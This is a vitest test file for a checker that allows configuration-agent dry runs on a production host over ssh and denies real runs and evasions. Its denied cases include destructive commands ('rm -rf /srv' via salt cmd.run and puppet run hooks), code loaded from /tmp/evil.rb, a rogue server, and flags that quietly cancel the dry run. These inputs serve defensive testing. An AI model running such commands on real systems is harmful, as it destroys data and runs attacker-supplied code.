import { describe, expect, it } from 'vitest';
import { check } from '../support/runtime.js';

// Configuration agents' dry runs only report (src/analyzers/config-agents.ts): `ssh prod-web-1 sudo
// chef-client --why-run` was denied as an unrecognised program on a production host. A real run, or a dry
// run that loads code given on the command line, is still unverifiable there.

describe('configuration agents on a production host', () => {
  it.each([
    'sudo chef-client --why-run',
    'sudo chef-client -W -l info',
    'sudo puppet agent --test --noop',
    'sudo puppet agent -t --noop --environment production',
    'puppet parser validate manifests/site.pp',
    'sudo salt-call state.apply test=True',
    'sudo salt-call state.highstate test=True',
    'salt-call test.ping',
    'salt-call grains.items',
    'sudo salt-call state.apply webserver test=True --state-output=changes',
    'puppet --version',
  ])('ssh prod-web-1 %s only reports, and is allowed', async (remote) => {
    const r = await check(`ssh prod-web-1 ${remote}`);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
  });

  it.each([
    'sudo chef-client',
    'sudo chef-client -W -c /tmp/evil.rb',
    'sudo chef-client --why-run --local-mode -o recipe[evil]',
    'sudo puppet agent --test',
    'sudo puppet agent -t --noop --server puppet.evil.example.com',
    'sudo puppet apply --noop /tmp/site.pp',
    'sudo salt-call state.apply',
    'sudo salt-call --local --file-root=/tmp/states state.apply test=True',
    'sudo salt-call cmd.run "rm -rf /srv"',
    // test=True is honoured by state functions only; options that end the dry run, run a command, load code.
    "sudo salt-call cmd.run 'rm -rf /srv' test=True",
    'sudo salt-call state.apply test=True test=False',
    'sudo salt-call --loc state.apply test=True',
    'sudo chef-client --why-run --no-why-run',
    'sudo chef-client -W --no-why',
    'sudo chef-client --why-run --conf /tmp/evil.rb',
    "sudo puppet agent --noop --prerun_command='rm -rf /srv'",
    "sudo puppet agent --noop --postrun_command 'rm -rf /srv'",
    'sudo puppet agent -t --noop --noop=false',
    'puppet facts --factpath /tmp/facts',
  ])('ssh prod-web-1 %s is not allowed', async (remote) => {
    const r = await check(`ssh prod-web-1 ${remote}`);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
  });
});
